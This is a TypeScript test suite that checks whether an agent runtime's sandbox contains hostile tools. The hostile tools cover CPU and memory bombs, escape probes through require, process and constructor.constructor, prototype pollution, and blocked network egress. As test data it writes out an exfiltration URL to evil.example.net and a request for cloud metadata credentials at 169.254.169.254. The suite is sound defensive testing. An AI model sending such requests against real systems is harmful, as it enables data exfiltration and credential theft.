import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SandboxStop } from '../../src/runtime/sandbox/sandboxError';
import type { RunRecord, StepRecord } from '../../src/runtime/store/checkpointStore';
import { REPO_ROOT } from '../support/processes';
import { DAEMON, RuntimeProcess } from '../support/runtimeProcess';
import { seededRandom } from '../support/seededRandom';

const HOSTILE = join(REPO_ROOT, 'test', 'fault', 'fixtures', 'hostile.agent.ts');
/**
 * The most resident memory the runtime process may have reached (VmHWM) once it has served every
 * hostile tool of this suite, fixed and generated: its tools' memory lives in worker and tool
 * processes, and nothing over a limit leaves them.
 */
const PEAK_RSS_BOUND_MB = 300;

interface TestServer {
  readonly origin: string;
  readonly port: number;
  readonly hits: string[];
  close(): Promise<void>;
}

async function startServer(handle: (path: string) => { status: number; headers?: Record<string, string>; body?: string }): Promise<TestServer> {
  const hits: string[] = [];
  const server: Server = createServer((request, response) => {
    hits.push(request.url ?? '');
    const answer = handle(request.url ?? '');
    response.writeHead(answer.status, answer.headers);
    response.end(answer.body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

describe('hostile tools in the runtime process', function () {
  this.timeout(120_000);
  let workspace: string;
  let allowedServer: TestServer;
  let deniedServer: TestServer;
  let runtime: RuntimeProcess;

  before(async () => {
    assert.ok(existsSync(DAEMON), 'dist/daemon.js is missing: run `npm run build` before the tests');
    deniedServer = await startServer(() => ({ status: 200, body: 'the other server: nothing here may reach me' }));
    allowedServer = await startServer((path) =>
      path === '/to-denied'
        ? { status: 302, headers: { location: `${deniedServer.origin}/collect?secret=42` } }
        : { status: 200, body: 'hello from the allowed server' },
    );
    // One runtime process for the whole suite: every hostile tool runs against it.
    workspace = mkdtempSync(join(tmpdir(), 'keel-hostile-'));
    runtime = new RuntimeProcess(workspace, { ALLOWED_ORIGIN: allowedServer.origin });
    await runtime.initialize();
  });

  after(async () => {
    await runtime.kill();
    await allowedServer.close();
    await deniedServer.close();
    rmSync(workspace, { recursive: true, force: true });
  });

  /** Starts a run of the hostile agent and waits for it to end; returns its record and steps. */
  async function run(input: unknown): Promise<{ run: RunRecord; steps: StepRecord[] }> {
    const { runId } = await runtime.request('startRun', { agentFile: HOSTILE, input: JSON.stringify(input) });
    await runtime.finished(runId, 180_000);
    return runtime.request('getRun', { runId });
  }

  /**
   * Runs one call of `tool`, then a well-behaved sandboxed tool and a host-side check in the same
   * run, and returns the hostile step. The runtime process must still be the same one, serving.
   */
  async function attack(tool: string, args?: unknown): Promise<StepRecord> {
    const { run: finished, steps } = await run({ call: tool, ...(args === undefined ? {} : { args }) });
    const detail = `${tool}: ${JSON.stringify(steps.map((step) => [step.seq, step.name, step.status, step.error?.slice(0, 300)]))}\nstderr:\n${runtime.proc.stderr().slice(-2_000)}`;
    assert.equal(finished.state, 'completed', detail);
    const byName = (name: string) => steps.find((step) => step.kind === 'tool' && step.name === name);
    const hostile = byName(tool);
    assert.ok(hostile, detail);
    const add = byName('add');
    assert.equal(add?.status, 'completed', `a normal sandboxed call after ${tool} works: ${detail}`);
    assert.deepEqual((add.output as { value: unknown }).value, { sum: 5, leftovers: [null, null, false] }, 'in a fresh context');
    const check = byName('host_check');
    assert.equal(check?.status, 'completed', detail);
    const host = (check.output as { value: { pid: number; objectClean: boolean; arrayClean: boolean } }).value;
    assert.deepEqual({ objectClean: host.objectClean, arrayClean: host.arrayClean }, { objectClean: true, arrayClean: true }, 'host built-ins untouched');
    assert.equal(host.pid, runtime.pid, 'the same runtime process served every run');
    assert.ok(runtime.running);
    return hostile;
  }

  function assertStopped(step: StepRecord, message: RegExp): void {
    assert.equal(step.status, 'failed', `${step.name} should fail; it returned ${JSON.stringify(step.output).slice(0, 300)}`);
    assert.match(step.error ?? '', message);
    assert.deepEqual(
      step.failedAttempts.map((attempt) => attempt.class),
      ['never'],
      'a sandbox stop is tried once and never retried',
    );
  }

  it('an infinite loop is stopped at its CPU limit', async () => {
    assertStopped(await attack('infinite_loop'), /^infinite_loop failed: it exceeded its 100 ms CPU limit, so the sandbox stopped it$/);
  });

  it('a memory bomb is stopped at its memory limit', async () => {
    assertStopped(await attack('memory_bomb'), /^memory_bomb failed: it used more than 16 MB of memory, so the sandbox stopped it$/);
  });

  it('deep recursion runs out of stack inside the isolate', async () => {
    assertStopped(await attack('deep_recursion'), /^deep_recursion failed: it ran out of stack \(its recursion went too deep\) in the sandbox$/);
  });

  it('require, process and import() do not exist', async () => {
    assertStopped(await attack('require_probe'), /^require_probe failed: it used `require`, which does not exist in the sandbox: sandboxed tools get no Node APIs$/);
    assertStopped(await attack('process_probe'), /^process_probe failed: it used `process`, which does not exist in the sandbox: sandboxed tools get no Node APIs$/);
    assertStopped(await attack('import_probe'), /^import_probe failed: it tried to import a module(?: \(.*\))?, but sandboxed code has no module loader/);
  });

  it('constructor.constructor climbs only to the isolate, where there is no process', async () => {
    assertStopped(await attack('constructor_climb'), /^constructor_climb failed: it used `process`, which does not exist in the sandbox/);
  });

  it('polluting the prototypes of its arguments stays inside its own context', async () => {
    const step = await attack('prototype_pollution', { payload: { note: 'hi' } });
    assert.equal(step.status, 'completed');
    assert.deepEqual((step.output as { value: unknown }).value, { polluted: 'yes' }, 'it polluted its own copy; the checks above show nobody else saw it');
  });

  it('a huge output is refused inside the sandbox', async () => {
    assertStopped(
      await attack('huge_output'),
      /^huge_output failed: it returned at least 3 MB of output, more than its limit of 1 MB \(maxOutputBytes\), so the sandbox refused it$/,
    );
  });

  it('a fetch to a host not allowed fails the call even when the tool swallows the error', async () => {
    assertStopped(
      await attack('fetch_elsewhere', { url: 'https://evil.example.net/collect?data=secret' }),
      /^fetch_elsewhere failed: it tried to reach evil\.example\.net, which its egress allow-list does not permit$/,
    );
  });

  it('a fetch to 127.0.0.1, not listed, is denied', async () => {
    assertStopped(
      await attack('fetch_elsewhere', { url: `${allowedServer.origin}/hello` }),
      new RegExp(`^fetch_elsewhere failed: it tried to reach 127\\.0\\.0\\.1:${allowedServer.port}, which its egress allow-list does not permit$`),
    );
    assertStopped(
      await attack('fetch_any_host', { url: `${allowedServer.origin}/hello` }),
      new RegExp(`^fetch_any_host failed: it tried to reach 127\\.0\\.0\\.1:${allowedServer.port}, a loopback address, which its egress allow-list does not permit`),
    );
  });

  it('a fetch to the cloud metadata address 169.254.169.254 is denied', async () => {
    assertStopped(
      await attack('fetch_any_host', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
      /^fetch_any_host failed: it tried to reach 169\.254\.169\.254, a cloud metadata address, which its egress allow-list does not permit/,
    );
  });

  it('a fetch to the listed server works, and its redirect to a server not listed is denied', async () => {
    const fine = await attack('fetch_allowed', { url: `${allowedServer.origin}/hello` });
    assert.equal(fine.status, 'completed', fine.error ?? '');
    assert.deepEqual((fine.output as { value: unknown }).value, { status: 200, body: 'hello from the allowed server', redirected: false });
    assertStopped(
      await attack('fetch_allowed', { url: `${allowedServer.origin}/to-denied` }),
      new RegExp(
        `^fetch_allowed failed: it followed a redirect from ${escape(allowedServer.origin)}/to-denied and tried to reach 127\\.0\\.0\\.1 on port ${deniedServer.port}, which its egress allow-list does not permit`,
      ),
    );
  });

  it('nothing reached a server it was not allowed to reach', () => {
    assert.deepEqual(deniedServer.hits, [], 'the server not listed was never contacted');
    assert.deepEqual([...allowedServer.hits].sort(), ['/hello', '/to-denied'], 'only the permitted requests reached the listed server');
  });
  describe('generated hostile shapes', () => {
    // Two halves from two seeds: the development half was used while building the limits; the
    // held-out half's shapes were never looked at.
    for (const [half, seed] of [
      ['development', 16_01],
      ['held-out', 16_02],
    ] as const) {
      it(`the ${half} half (seed ${seed}): every shape is stopped or contained, and the runtime process serves on`, async () => {
        for (const shape of hostileShapes(seed)) {
          const step = await attack(shape.tool, shape.args);
          const how = step.status === 'completed' ? 'completed' : (step.error ?? '').slice(0, 140);
          console.log(`      ${shape.tool} ${JSON.stringify(shape.args)}: ${how}`);
          shape.expect(step);
        }
      });
    }
  });

  describe('after all of them', () => {
    it(`the runtime process's peak resident memory stayed under ${PEAK_RSS_BOUND_MB} MB through every hostile tool`, () => {
      const peakKb = Number(/^VmHWM:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${runtime.pid}/status`, 'utf8'))?.[1]);
      const peakMb = peakKb / 1024;
      console.log(`      peak RSS of the runtime process (VmHWM): ${peakMb.toFixed(0)} MB; bound ${PEAK_RSS_BOUND_MB} MB`);
      assert.ok(peakMb > 0 && peakMb < PEAK_RSS_BOUND_MB, `peak RSS ${peakMb.toFixed(0)} MB`);
    });

    it('the run database stayed small: every error was cut where it arose and stored once', () => {
      const files = ['keel.db', 'keel.db-wal'].map((name) => join(workspace, '.keel', name)).filter((file) => existsSync(file));
      const bytes = files.reduce((sum, file) => sum + statSync(file).size, 0);
      console.log(`      run database after every hostile tool: ${(bytes / 2 ** 20).toFixed(1)} MB`);
      assert.ok(bytes > 0 && bytes < 20 * 2 ** 20, `${bytes} bytes`);
    });
  });
});

/** One generated hostile call and what must come of it. */
interface HostileShape {
  readonly tool: string;
  readonly args: Record<string, unknown>;
  expect(step: StepRecord): void;
}

/** What each way of being stopped reads like, as the step's error after "<tool> failed: ". */
const STOPS: Readonly<Record<Extract<SandboxStop, 'cpu' | 'memory' | 'stack' | 'output' | 'code' | 'crash'>, RegExp>> = {
  cpu: /^it exceeded its \d+ ms CPU limit, so the sandbox stopped it$/,
  memory: /^it used more than \d+ MB of memory( \(its process \d+ MB\))?, so the sandbox stopped it$/,
  stack: /^it ran out of stack \(its recursion went too deep\) in the sandbox$/,
  output: /^(it returned (at least )?[\d.]+ [KM]?B of output, more than its limit|it returned a value that cannot leave the sandbox|its process began an answer of \d+ bytes, far more than)/,
  code: /^it used `WebAssembly`, which a sandboxed tool has only when granted/,
  crash: /^the process (its sandbox ran in ended under it|it ran in ended before it answered)/,
};

/** The step failed, stopped by the sandbox in one of these ways, and was not retried; or, when `mayComplete`, it completed. */
function stoppedBy(stops: readonly (keyof typeof STOPS)[], mayComplete = false): (step: StepRecord) => void {
  return (step) => {
    if (mayComplete && step.status === 'completed') return;
    assert.equal(step.status, 'failed', `${step.name} should be stopped by ${stops.join(' or ')}`);
    const reason = (step.error ?? '').replace(/^\w+ failed: /, '');
    assert.ok(
      stops.some((stop) => STOPS[stop].test(reason)),
      `${step.name} should be stopped by ${stops.join(' or ')}: ${reason.slice(0, 300)}`,
    );
    assert.deepEqual(
      step.failedAttempts.map((attempt) => attempt.class),
      ['never'],
      'a sandbox stop is tried once and never retried',
    );
  };
}

/** A long error was cut to 16 KB with a note (or the isolate ran out of memory making it). */
function cutError(step: StepRecord): void {
  assert.equal(step.status, 'failed');
  const error = step.error ?? '';
  if (STOPS.memory.test(error.replace(/^\w+ failed: /, ''))) return;
  assert.ok(error.length < 16_384 + 200, `the error kept is ${error.length} characters`);
  assert.match(error, /… \(\d+ more characters of this message were cut\)$/);
}

/**
 * Hostile calls drawn from families of shapes, each family once and then a few more at random:
 * collections that make V8 give up, WebAssembly memory, results and errors of every size, loops
 * and recursion of several kinds, floods of logs, and process-tier tools that hog memory or write
 * past Keel's own checks.
 */
function hostileShapes(seed: number): HostileShape[] {
  const random = seededRandom(seed);
  const pick = <T>(values: readonly T[]): T => values[Math.floor(random() * values.length)]!;
  const between = (low: number, high: number): number => Math.round(low + random() * (high - low));
  const families: (() => HostileShape)[] = [
    () => ({
      tool: 'collection_bomb',
      args: { kind: pick(['set', 'map', 'object', 'array', 'strings'] as const), entries: pick([200_000, 1_000_000, 4_000_000, 8_000_000]) },
      expect: stoppedBy(['memory', 'crash'], true),
    }),
    () => ({ tool: 'wasm_granted', args: { pages: between(2_000, 8_000), step: pick([16, 64, 256]) }, expect: stoppedBy(['memory']) }),
    () => ({ tool: 'wasm_ungranted', args: { pages: between(100, 8_000), step: 16 }, expect: stoppedBy(['code']) }),
    () => ({
      tool: 'huge_result',
      args: { megabytes: between(2, 200), shape: pick(['string', 'array', 'object', 'nested'] as const) },
      expect: stoppedBy(['output', 'memory']),
    }),
    () => ({ tool: 'huge_error', args: { megabytes: between(1, 40), thrown: pick(['error', 'string', 'object', 'rejection'] as const) }, expect: cutError }),
    () => ({ tool: 'endless', args: { style: pick(['for', 'while', 'after_await', 'promise_chain', 'string_growth'] as const) }, expect: stoppedBy(['cpu']) }),
    () => ({ tool: 'bottomless', args: { style: pick(['direct', 'mutual', 'json', 'getter'] as const) }, expect: stoppedBy(['stack', 'memory']) }),
    () => ({ tool: 'huge_log', args: { megabytes: between(1, 50), lines: between(1, 2_000) }, expect: stoppedBy(['memory'], true) }),
    () => ({ tool: 'process_hog', args: { megabytesPerStep: between(8, 64) }, expect: stoppedBy(['memory']) }),
    () => ({ tool: 'raw_frame', args: { megabytes: between(50, 500) }, expect: stoppedBy(['output']) }),
  ];
  // The isolate families only, for the extra draws: the process tier's start-up makes its calls slow.
  return [...families.map((family) => family()), ...Array.from({ length: 4 }, () => pick(families.slice(0, 8))())];
}
